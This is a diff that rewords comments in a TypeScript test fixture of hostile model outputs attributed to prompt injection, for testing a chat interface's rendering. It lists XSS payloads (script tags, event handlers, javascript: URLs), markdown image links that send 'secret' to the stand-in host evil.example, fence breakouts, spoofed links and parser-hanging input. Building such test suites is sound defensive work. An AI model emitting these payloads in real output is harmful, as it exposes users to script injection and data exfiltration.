@@ -1,13 +1,13 @@
 /*
- * What a model may write when somebody else has put words into its mouth. Every line that could run calls `ran()`; every
- * line that could load or send something names `evil.example`. Nothing of it may ever happen.
+ * Model outputs of prompt-injection attacks. Every line that could run calls `ran()`; every line that could load or send
+ * something names `evil.example`. None of it may ever happen.
  */
 
 const HOST = 'evil.example';
 const LEAK = `https://${HOST}/?q=secret`;
 const RUN = 'ran()';
 
-/** HTML as models are made to write it. It is shown, never read. */
+/** HTML in answers. It is shown as text, never parsed. */
 const HTML = [
   `<script>${RUN}</script>`,
   `<SCRIPT SRC=${LEAK}></SCRIPT>`,
@@ -105,7 +105,7 @@ const HTML = [
   `<div data-slot="markdown" onmouseover=${RUN}>x</div>`,
 ];
 
-/** Places that are not somewhere to go, each in every form of a link or an image. */
+/** Forbidden URLs, each in every form of a link or an image. */
 const ADDRESSES = [
   `javascript:${RUN}`,
   `JaVaScRiPt:${RUN}`,
@@ -148,7 +148,7 @@ const FORMS: ((address: string) => string)[] = [
   (address) => `<${address}>`,
 ];
 
-/** Ways to carry text away in the address of an image. */
+/** Ways to exfiltrate text in an image's URL. */
 const IMAGES = [
   `![x](${LEAK})`,
   `![x](${LEAK} "title")`,
@@ -182,7 +182,7 @@ const IMAGES = [
   `a@${HOST} and https://${HOST}/?q=secret and www.${HOST}/x`,
 ];
 
-/** Half of something, which a later piece may turn into something else. */
+/** Incomplete input that a later chunk may change into something else. */
 const HALF_OPEN = [
   '![x](https://evil.example/?q=',
   '![x](https://evil.example/a b',
@@ -206,7 +206,7 @@ const HALF_OPEN = [
   '<svg/onload=ran()//',
 ];
 
-/** Names and attributes that are meant to leave the place they are written in. */
+/** Names and attributes that try to break out of their context. */
 const BREAKOUTS = [
   '```js" onload="ran()\nx\n```',
   '```"><script>ran()</script>\nx\n```',
@@ -241,7 +241,7 @@ const BREAKOUTS = [
   'javascript:ran()',
 ];
 
-/** What leads somewhere else than it says. */
+/** Links whose text misrepresents their target. */
 const SPOOFS = [
   `[https://good.example](${LEAK})`,
   `[https://good.example](https://good.example@${HOST})`,
@@ -259,7 +259,7 @@ const SPOOFS = [
   `[x](https://${HOST}/${'a'.repeat(3_000)})`,
 ];
 
-/** What keeps a page busy, or breaks what reads it. */
+/** Input that blocks the page or breaks the parser. */
 const HEAVY = [
   '['.repeat(5_000),
   '!['.repeat(3_000),
@@ -287,7 +287,7 @@ const HEAVY = [
   '\ud800'.repeat(500),
 ];
 
-/** Each is written letter by letter. */
+/** Each is streamed letter by letter. */
 export const HOSTILE_OUTPUTS: readonly string[] = [
   ...HTML,
   ...ADDRESSES.flatMap((address) => FORMS.map((form) => form(address))),
@@ -297,5 +297,5 @@ export const HOSTILE_OUTPUTS: readonly string[] = [
   ...SPOOFS,
 ];
 
-/** Each is written in pieces, because there is much of it. */
+/** Each is streamed in chunks, because it is long. */
 export const HEAVY_OUTPUTS: readonly string[] = HEAVY;
